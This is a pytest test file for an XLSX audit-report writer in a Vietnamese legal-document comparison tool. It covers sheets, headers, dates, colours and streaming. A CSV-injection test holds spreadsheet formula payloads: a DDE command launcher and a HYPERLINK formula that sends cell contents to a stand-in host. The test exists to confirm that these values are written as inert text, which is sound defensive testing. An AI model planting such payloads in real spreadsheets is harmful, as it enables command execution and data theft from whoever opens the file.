"""audit.xlsx: sheets, rows, headers by language, frozen header, filters, widths."""

from __future__ import annotations

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from dancoso_compare.report import write_xlsx

from tests.report_factory import finding, report_with, sample_documents, sample_report

INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
              "@SUM(1+1)", "\tTab đầu dòng", "\rVề đầu dòng"]


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "audit.xlsx"
    write_xlsx(sample_report(), path)
    return load_workbook(path)


def _rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_sheets(workbook):
    assert workbook.sheetnames == ["Tổng hợp", "Bằng chứng", "Phát hiện", "Nội dung thêm", "Thông tin"]


def test_summary_one_row_per_document(workbook):
    report = sample_report()
    rows = _rows(workbook["Tổng hợp"])
    header, body = rows[0], rows[1:]
    assert header[:8] == ["Tệp", "Thứ tự trong tệp", "Loại văn bản", "Dự thảo", "Số, ký hiệu", "Ngày", "Địa phương", "Cấp"]
    assert header[8:13] == ["M1", "M2", "M3", "M4", "M5"]
    assert len(body) == len(report.documents)
    by_key = {(r[0], r[1]): r for r in body}
    muong_kim = by_key[("batch/muong_kim_nq_15.docx", 1)]  # documents are numbered from 1
    assert muong_kim[8:13] == ["Đầy đủ", "Một phần", "Đầy đủ", "Thiếu", "Đầy đủ"]
    assert muong_kim[6:8] == ["xã Mường Kim", "Cấp xã"]
    extras, findings = header.index("Nội dung thêm"), header.index("Phát hiện")
    assert muong_kim[extras] == 1 and muong_kim[findings] == 3
    assert by_key[("batch/khong_ro.md", 1)][6] is None  # no locality
    assert by_key[("seeds/000_muong_kim.txt", 2)][2] == "Nghị quyết"  # the second document of the file


def test_status_cells_coloured(workbook):
    sheet = workbook["Tổng hợp"]
    fills = {sheet.cell(row=r, column=c).value: sheet.cell(row=r, column=c).fill.fgColor.rgb
             for r in range(2, sheet.max_row + 1) for c in range(9, 14)}
    assert fills["Thiếu"].endswith("FFEBE9") and fills["Một phần"].endswith("FFF1C2") and fills["Đầy đủ"].endswith("DAFBE1")


def test_evidence_rows_match_report(workbook):
    report = sample_report()
    rows = _rows(workbook["Bằng chứng"])[1:]
    expected = [(d.source, d.index + 1, m, ev.line, ev.score) for d in report.documents
                for m, cov in sorted(d.coverage.items()) for ev in cov.evidence]
    assert [(r[0], r[1], r[3], r[6], r[7]) for r in rows] == expected
    partial = next(r for r in rows if r[0] == "batch/muong_kim_nq_15.docx" and r[3] == "M2")
    assert partial[4] == "Một phần" and partial[5] == "Điều 4 khoản 2" and "<script>" in partial[11]
    assert partial[8] == "tiêu đề có cụm từ của biện pháp"  # the method in words
    assert partial[9] == "thông tin, tuyên truyền, phổ biến, giáo dục pháp luật"  # elements by name, not id
    assert not any("dieu-" in str(v) or "khoan-" in str(v) for r in rows for v in r)  # no node ids


def test_findings_rows(workbook):
    report = sample_report()
    rows = _rows(workbook["Phát hiện"])
    assert rows[0] == ["Tệp", "Thứ tự trong tệp", "Địa phương", "Mức độ", "Mã quy tắc", "Nội dung", "Vị trí", "Dòng",
                       "Căn cứ pháp lý"]
    assert len(rows) - 1 == sum(len(d.findings) for d in report.documents)
    num = next(r for r in rows if r[4] == "DC-NUM-003")
    assert num[3] == "Lỗi" and num[5] == "Điều 4 có hai khoản cùng số 3." and num[7] == 66
    assert num[8] == "Khoản 2 Điều 61 Luật Ban hành văn bản quy phạm pháp luật"


def test_frozen_header_filter_and_widths(workbook):
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        widths = [sheet.column_dimensions[c].width for c in "ABCDEF"]
        assert all(6 <= w <= 70 for w in widths)
    summary = workbook["Tổng hợp"]
    assert summary.column_dimensions["A"].width >= len("batch/thang_binh_to_trinh.txt")


def test_english_headers_and_messages(tmp_path):
    path = write_xlsx(sample_report(), tmp_path / "en.xlsx", lang="en")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Summary", "Evidence", "Findings", "Extras", "Information"]
    header = next(wb["Summary"].iter_rows(values_only=True))
    assert header[:3] == ("File", "Position in file", "Kind")
    messages = [r[5] for r in wb["Findings"].iter_rows(min_row=2, values_only=True)]
    assert "Article 4 has two clauses numbered 3." in messages
    statuses = {r[9] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert statuses == {"Present", "Partial", "Missing"}


def test_control_characters_from_pdf_text_do_not_break_the_workbook(tmp_path):
    doc = sample_documents()[6].model_copy(deep=True)
    doc.findings.append(finding("DC-X", "info", "ký tự lạ \x0b\x01 ở đây", "odd", 3))
    path = write_xlsx(report_with(doc), tmp_path / "x.xlsx")
    rows = list(load_workbook(path)["Phát hiện"].iter_rows(min_row=2, values_only=True))
    assert rows[0][5] == "ký tự lạ  ở đây"


def test_cells_from_document_text_are_never_formulas(tmp_path):
    """OWASP CSV injection: text beginning with = + - @ tab or CR stays a string cell."""
    doc = sample_documents()[2].model_copy(deep=True)
    doc.title = INJECTIONS[0]
    doc.number = INJECTIONS[1]
    doc.issuer = INJECTIONS[2]
    for n, text in enumerate(INJECTIONS):
        doc.coverage["M1"].evidence[0].text = INJECTIONS[0]
        doc.extras[0].text = text if n == 3 else doc.extras[0].text
        doc.findings.append(finding(f"DC-X-{n}", "info", text, text, n + 1, text))
    doc.extras[0].topic = INJECTIONS[4]
    path = write_xlsx(report_with(doc), tmp_path / "inject.xlsx")
    workbook = load_workbook(path)
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    seen.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert set(INJECTIONS) <= set(seen)  # every kind of injection was written, and as text
    # the file's XML holds no formula at all
    import zipfile

    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def test_dates_are_date_cells_and_a_draft_has_no_adoption_date(workbook):
    sheet = workbook["Tổng hợp"]
    header = [c.value for c in sheet[1]]
    date_col, adopted_col = header.index("Ngày") + 1, header.index("Ngày thông qua") + 1
    rows = {(sheet.cell(r, 1).value, sheet.cell(r, 2).value): r for r in range(2, sheet.max_row + 1)}
    son_la = rows[("batch/son_la_nq_08.pdf", 1)]
    cell = sheet.cell(son_la, date_col)
    assert cell.is_date and cell.value.date() == date(2023, 7, 14) and cell.number_format == "DD/MM/YYYY"
    assert sheet.cell(son_la, adopted_col).is_date
    # the draft resolution of Mường Kim announces a sitting date: it is still not adopted
    draft = rows[("seeds/000_muong_kim.txt", 2)]
    assert sheet.cell(draft, adopted_col).value is None


def test_info_sheet_tells_when_and_with_which_pack(tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764763200")  # 2025-12-03 12:00 UTC = 19:00 in Vietnam
    path = write_xlsx(sample_report(), tmp_path / "info.xlsx")
    info = {r[0]: r[1] for r in load_workbook(path)["Thông tin"].iter_rows(min_row=2, values_only=True)}
    assert info["Lập lúc"] == datetime(2025, 12, 3, 19, 0)
    assert info["Mã"] == "luat-10-2022-qh15-dieu-8" and info["Phiên bản"] == sample_report().rules.version
    assert "từ 0,8 trở lên" in info["Độ khớp"]


# --------------------------------------------------------------------------- streamed, write-only workbook


def test_measures_arriving_with_the_last_document_get_columns_and_rows(tmp_path):
    from dancoso_compare.report import i18n

    docs = sample_documents()
    late = docs[-1].model_copy(update={"coverage": {**docs[-1].coverage, "M12": docs[-1].coverage["M1"],
                                                    "M9": docs[-1].coverage["M1"]}})
    report = report_with(*docs[:-1], late)  # the rows of the first documents are spooled before M9 and M12 exist
    book = load_workbook(write_xlsx(report, tmp_path / "late.xlsx"))
    summary = _rows(book["Tổng hợp"])
    assert summary[0][8:15] == ["M1", "M2", "M3", "M4", "M5", "M9", "M12"]
    assert summary[1][13:15] == [i18n.status_label(None, "vi")] * 2  # not assessed in the first document
    assert summary[-1][13:15] == [summary[-1][8]] * 2
    evidence = _rows(book["Bằng chứng"])[1:]
    late_measures = [r[3] for r in evidence if (r[0], r[1]) == (late.source, late.index + 1)]
    assert late_measures[-2:] == ["M9", "M12"]  # in the batch's measure order, after the pack's


def test_stream_keeps_no_document_and_spools_its_rows(tmp_path):
    import gc
    import weakref

    from dancoso_compare.report.xlsx import XlsxStream

    report = sample_report()
    stream = XlsxStream(report.rules, spool_dir=tmp_path)
    alive = []
    for text in [d.model_dump_json() for d in report.documents]:
        doc = type(report.documents[0]).model_validate_json(text)
        stream.add(doc)
        alive.append(weakref.ref(doc))
        del doc
    gc.collect()
    assert [ref for ref in alive if ref() is not None] == []
    expected = sum(len(cov.evidence) for d in report.documents for cov in d.coverage.values())
    assert stream.sheets["evidence"].count == expected
    assert sum(1 for _ in stream.sheets["evidence"].rows()) == expected
    path = write_xlsx(stream, tmp_path / "audit.xlsx", summary=report)
    assert len(_rows(load_workbook(path)["Bằng chứng"])) == expected + 1
